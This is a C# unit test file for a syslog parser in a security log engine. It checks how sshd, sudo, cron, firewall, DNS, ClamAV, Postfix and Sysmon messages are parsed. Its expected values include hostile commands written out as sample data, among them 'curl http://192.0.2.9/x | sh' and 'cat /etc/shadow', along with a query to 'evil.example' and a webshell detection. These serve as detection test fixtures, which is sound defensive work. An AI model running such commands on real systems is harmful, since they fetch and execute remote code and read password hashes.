using System.Text;
using Vigie.Engine.Events;
using Vigie.Engine.Formats;
using Vigie.Engine.Formats.Syslog;
using Vigie.Tests.Formats.Lines;

namespace Vigie.Tests.Formats.Syslog;

/// <summary>After RFC 3164 and RFC 5424; texts after the documentation of OpenSSH, sudo, cron, netfilter's LOG target, BIND 9, dnsmasq, ClamAV, Postfix, Dovecot, OpenVPN.</summary>
public sealed class SyslogMessagesTests
{
    private static TextFeed Read(string content, string fileName = "") =>
        TextFeed.Read(new SyslogFormat(), content, new LogReaderOptions { Received = Some.Received, FileName = fileName });

    private static LogSource Linux(string? service, string? category = null) => new("linux", category, service);

    [Fact]
    public void Says_who_came_from_where_over_ssh()
    {
        var feed = Read(LogSamples.Auth);
        Assert.Equal(new DateTimeOffset(2026, 11, 21, 10, 20, 30, TimeSpan.Zero), feed.Events[0].Time);
        Assert.Equal(("mail", "sshd", "812"), (feed.Of(0, "hostname"), feed.Of(0, "program"), feed.Of(0, "pid")));
        Assert.Equal(("admin", "192.0.2.7", "50000"), (feed.Of(0, "User"), feed.Of(0, "src_ip"), feed.Of(0, "src_port")));
        Assert.Equal(("alice", "2001:db8::7"), (feed.Of(1, "User"), feed.Of(1, "src_ip")));
        Assert.Equal(("root", "192.0.2.8"), (feed.Of(2, "User"), feed.Of(2, "src_ip")));
        Assert.True(feed.Events[0].Class.Covers(Linux("sshd")) && feed.Events[0].Class.Covers(Linux("auth")));
    }

    [Fact]
    public void Makes_commands_of_sudo_and_cron_processes_unless_refused()
    {
        var feed = Read(LogSamples.Auth);
        Assert.Equal(("/usr/bin/cat /etc/shadow", "/usr/bin/cat", "/home/alice"), (feed.Of(3, "CommandLine"), feed.Of(3, "Image"), feed.Of(3, "CurrentDirectory")));
        Assert.Equal(("root", "alice"), (feed.Of(3, "User"), feed.Of(3, "SourceUser")));
        Assert.True(feed.Events[3].Class.Covers(Linux(null, "process_creation")));
        Assert.Equal("#-1", feed.Of(4, "USER"));
        Assert.False(feed.Events[4].Class.Covers(Linux(null, "process_creation")));
        Assert.True(feed.Events[4].Class.Covers(Linux("sudo")));
        Assert.Equal(("curl http://192.0.2.9/x | sh", "root"), (feed.Of(5, "CommandLine"), feed.Of(5, "User")));
        Assert.True(feed.Events[5].Class.Covers(Linux(null, "process_creation")));
        Assert.True(feed.Events[6].Class.Covers(Linux("cron")));
        Assert.Equal(("192.0.2.9", "root"), (feed.Of(7, "src_ip"), feed.Of(7, "User")));
    }

    [Fact]
    public void Reads_structured_data_byte_order_mark_and_nil_values()
    {
        var feed = Read(LogSamples.Rfc5424);
        Assert.Equal("'su root' failed for alice on /dev/pts/8", feed.Of(0, "message"));
        Assert.Equal(("4", "2", "ID47"), (feed.Of(0, "syslog_facility"), feed.Of(0, "syslog_severity"), feed.Of(0, "msgid")));
        Assert.True(feed.Events[0].Class.Covers(Linux("su")) && feed.Events[0].Class.Covers(Linux("auth")));
        Assert.Equal(new DateTimeOffset(2026, 11, 21, 10, 20, 30, TimeSpan.Zero).AddTicks(30), feed.Events[1].Time);
        Assert.Equal(("3", "App\"x]", "1011", "high"), (feed.Of(1, "iut"), feed.Of(1, "eventSource"), feed.Of(1, "eventID"), feed.Of(1, "class")));
        Assert.Equal("An event", feed.Of(1, "message"));
        Assert.Null(feed.Events[3].Time);
        Assert.Null(feed.Of(3, "hostname"));
    }

    [Fact]
    public void Sees_packets_queries_viruses_and_failed_logins()
    {
        var feed = Read(LogSamples.Iso);
        Assert.Equal(("192.0.2.1", "10.0.0.5", "23", "block"), (feed.Of(0, "src_ip"), feed.Of(0, "dst_ip"), feed.Of(0, "dst_port"), feed.Of(0, "action")));
        Assert.True(feed.Events[0].Class.Covers(new LogSource(null, "firewall", null)));
        Assert.Equal(("evil.example", "TXT", "10.0.0.7"), (feed.Of(1, "query"), feed.Of(1, "record_type"), feed.Of(1, "src_ip")));
        Assert.Equal(new DateTimeOffset(2026, 11, 21, 9, 20, 31, TimeSpan.Zero), feed.Events[1].Time);
        Assert.Equal(("www.example.org", "AAAA", "10.0.0.8"), (feed.Of(2, "query"), feed.Of(2, "record_type"), feed.Of(2, "src_ip")));
        Assert.True(feed.Events[2].Class.Covers(new LogSource(null, "dns", null)));
        Assert.Equal(("/srv/up/x.php", "Php.Webshell.Test-1"), (feed.Of(3, "Filename"), feed.Of(3, "Signature")));
        Assert.True(feed.Events[3].Class.Covers(new LogSource(null, "antivirus", null)));
        Assert.Equal("192.0.2.44", feed.Of(4, "src_ip"));
        Assert.True(feed.Events[4].Class.Covers(Linux("postfix")));
        Assert.Equal(("192.0.2.45", "bob"), (feed.Of(5, "src_ip"), feed.Of(5, "User")));
        Assert.Equal(("carol@example.org", "192.0.2.46"), (feed.Of(6, "User"), feed.Of(6, "src_ip")));
    }

    [Theory]
    [InlineData("Failed password for x from 1.1.1.1 port 1 ssh2 from 192.0.2.9 port 500 ssh2", "192.0.2.9")]
    [InlineData("Failed password for from from 192.0.2.9 port 500 ssh2", "192.0.2.9")]
    public void Believes_no_address_that_a_name_pretends(string text, string address) =>
        Assert.Equal(address, Read($"Nov 21 10:20:30 h sshd[1]: {text}\n").Of(0, "src_ip"));

    [Theory]
    [InlineData("Mar  1 00:00:10")]
    [InlineData("Jan  1 00:00:10")]
    public void Lets_no_device_with_a_wrong_clock_mislead_the_others(string stray)
    {
        var feed = Read($"Nov 20 10:00:00 a app[1]: x\n{stray} router app[1]: x\nNov 21 10:00:00 a app[1]: x\n{stray} router app[1]: x\nNov 21 10:00:01 a app[1]: x\n");
        Assert.Equal(new DateTimeOffset(2026, 11, 21, 10, 0, 0, TimeSpan.Zero), feed.Events[2].Time);
        Assert.Equal(new DateTimeOffset(2026, 11, 21, 10, 0, 1, TimeSpan.Zero), feed.Events[4].Time);
    }

    [Fact]
    public void Goes_over_the_new_year()
    {
        var feed = Read("Dec 31 23:59:59 a app[1]: x\nJan  1 00:00:01 a app[1]: x\n");
        Assert.Equal(new DateTimeOffset(2025, 12, 31, 23, 59, 59, TimeSpan.Zero), feed.Events[0].Time);
        Assert.Equal(new DateTimeOffset(2026, 1, 1, 0, 0, 1, TimeSpan.Zero), feed.Events[1].Time);
    }

    [Fact]
    public void Reads_sysmon_for_linux()
    {
        var feed = Read("Nov 21 10:20:30 h sysmon: <Event><System><Provider Name=\"Linux-Sysmon\"/><EventID>1</EventID><EventRecordID>7</EventRecordID><Channel>Linux-Sysmon/Operational</Channel><Computer>h</Computer>" +
            "<TimeCreated SystemTime=\"2026-11-21T10:20:29.5000000Z\"/></System><EventData><Data Name=\"Image\">/usr/bin/bash</Data><Data Name=\"CommandLine\">bash -c &quot;a &amp;&amp; b&quot;</Data><Data Name=\"User\"/></EventData></Event>\n");
        Assert.Equal(("/usr/bin/bash", "bash -c \"a && b\"", ""), (feed.Of(0, "Image"), feed.Of(0, "CommandLine"), feed.Of(0, "User")));
        Assert.True(feed.Events[0].Class.Covers(Linux(null, "process_creation")));
        Assert.Equal(new DateTimeOffset(2026, 11, 21, 10, 20, 29, 500, TimeSpan.Zero), feed.Events[0].Time);
    }

    [Theory]
    [InlineData("<14>Nov 21 10:20:30 pc1 nxlog[4]: ")]
    [InlineData("<14>1 2026-11-21T10:20:30Z pc1 nxlog 4 - - @cee: ")]
    public void Reads_documents_as_the_events_they_are(string header)
    {
        var feed = Read($"{header}{{\"EventTime\":\"2026-11-21T10:20:29Z\",\"Hostname\":\"pc1.corp\",\"Channel\":\"Security\",\"EventID\":4625,\"SourceName\":\"Microsoft-Windows-Security-Auditing\",\"TargetUserName\":\"bob\"}}\n" +
            "Nov 21 10:20:31 h app[1]: {not json}\n");
        Assert.Equal(("4625", "bob"), (feed.Of(0, "EventID"), feed.Of(0, "TargetUserName")));
        Assert.True(feed.Events[0].Class.Covers(new LogSource("windows", null, "security")));
        Assert.Equal("{not json}", feed.Of(1, "message"));
        Assert.True(feed.Events[1].Class.Covers(Linux("syslog")));
        Assert.Equal([0L, feed.Offsets[1]], feed.Offsets);
        Assert.True(feed.Offsets[1] > 100);
    }

    [Fact]
    public void Never_throws_on_random_messages()
    {
        var random = new Random(3);
        var messages = new SyslogMessages(new LogReaderOptions());
        var record = new EventRecord(new FieldCatalog(Some.Names));
        string[] words = ["<13>", "<", "1 ", "Nov 21 10:20:30 ", "2026-11-21T10:20:30Z ", "host ", "sshd[1]: ", "sudo: ", "CRON[1]: (root) CMD (", "kernel: IN=", " SRC=", " DST= PROTO=", "%SYS-5-X: ", "%%01A/3/B(l): ", "date=1 logid= type=",
            "1,2026/11/21 10:20:30,", "query: ", "query[", "] ", " from ", " port ", "[", "]", "=\"", "\\", "\"", "<Event>", "<Data Name=\"", "</Data>", "type=SYSCALL msg=audit(1.1:1): ", " COMMAND=", " : ", "FOUND", ": ", "\t", "service=\t\t\t\t\t\t", "{\"a\":1", "}", "@cee:"];
        for (var i = 0; i < 20_000; i++)
        {
            var text = new StringBuilder();
            for (var n = random.Next(1, 9); n > 0; n--) text.Append(words[random.Next(words.Length)]);
            var bytes = Encoding.UTF8.GetBytes(text.ToString());
            record.Begin(bytes, 0, bytes.Length);
            messages.Add(bytes, 0, bytes.Length, record);
            _ = record.Capture();
        }
    }
}
